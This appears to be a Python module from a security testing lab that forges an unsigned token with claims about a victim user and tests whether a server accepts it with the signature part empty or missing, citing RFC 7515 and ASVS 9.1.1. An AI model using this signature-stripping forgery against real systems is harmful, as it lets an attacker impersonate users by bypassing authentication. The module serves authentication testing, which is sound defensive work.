"""Send a token without its signature.

Exploits a server that checks a signature only where there is one.
Source: RFC 7515, section 5.2 Message Signature or MAC Validation,
https://www.rfc-editor.org/rfc/rfc7515#section-5.2
ASVS: 9.1.1
"""

from attacks.lab.attack import attack
from attacks.lab.forge import unsigned
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Target


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Write a token about the victim, and leave the third part empty."""
    victim = target.enrol()
    token = unsigned(target.claims_about(victim), target.forged_header())
    return judge({"third part empty": target.read(f"{token}."), "two parts": target.read(token)})
